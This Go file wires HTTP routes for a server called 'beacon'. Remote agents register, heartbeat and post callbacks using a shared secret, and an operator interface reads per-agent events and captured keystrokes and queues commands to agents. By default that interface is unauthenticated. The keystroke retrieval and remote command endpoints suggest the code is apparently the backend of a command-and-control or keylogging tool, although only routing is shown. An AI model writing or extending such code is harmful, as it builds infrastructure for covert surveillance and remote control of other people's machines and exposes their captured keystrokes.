package http

import (
	"github.com/gin-gonic/gin"

	"github.com/outfleet/beacon/internal/api/http/handler"
	"github.com/outfleet/beacon/internal/api/http/middleware"
	"github.com/outfleet/beacon/internal/auth"
	"github.com/outfleet/beacon/internal/command"
	"github.com/outfleet/beacon/internal/session"
	"github.com/outfleet/beacon/internal/snapshot"
)

type Services struct {
	Sessions  *session.Store
	Commands  *command.Queue
	Snapshots snapshot.Store // optional, nil disables persistence
	Config    Config
}

func SetupRoute(engine *gin.Engine, srvs *Services) {
	engine.Use(middleware.RequestLogger())

	healthHandler := handler.NewHealthHandler()
	engine.GET("/health", healthHandler.Check)

	// Agent-facing channel: shared secret checked before anything else.
	agentHandler := handler.NewAgentHandler(srvs.Sessions, srvs.Commands, srvs.Snapshots)
	channel := engine.Group("/", middleware.SecretAuth(srvs.Config.SharedSecret))
	channel.POST("/register", agentHandler.Register)
	channel.POST("/heartbeat", agentHandler.Heartbeat)
	channel.POST("/callback", agentHandler.Callback)

	// Operator-facing query surface. Open unless operator login is
	// configured, in which case it sits behind a bearer token.
	operatorHandler := handler.NewOperatorHandler(srvs.Sessions, srvs.Commands)
	operator := engine.Group("/")
	if op := srvs.Config.Operator; op.Enabled() {
		authHandler := handler.NewAuthHandler(op.Username, op.PasswordHash, auth.Config{
			Secret:   op.JWTSecret,
			TokenTTL: op.TokenTTL,
		})
		engine.POST("/auth/login", authHandler.Login)
		operator.Use(middleware.JWTAuth(op.JWTSecret))
	}
	operator.GET("/status", operatorHandler.Status)
	operator.GET("/events/:agent_id", operatorHandler.Events)
	operator.GET("/keystrokes/:agent_id", operatorHandler.Keystrokes)
	operator.POST("/command/:agent_id", operatorHandler.EnqueueCommand)
}
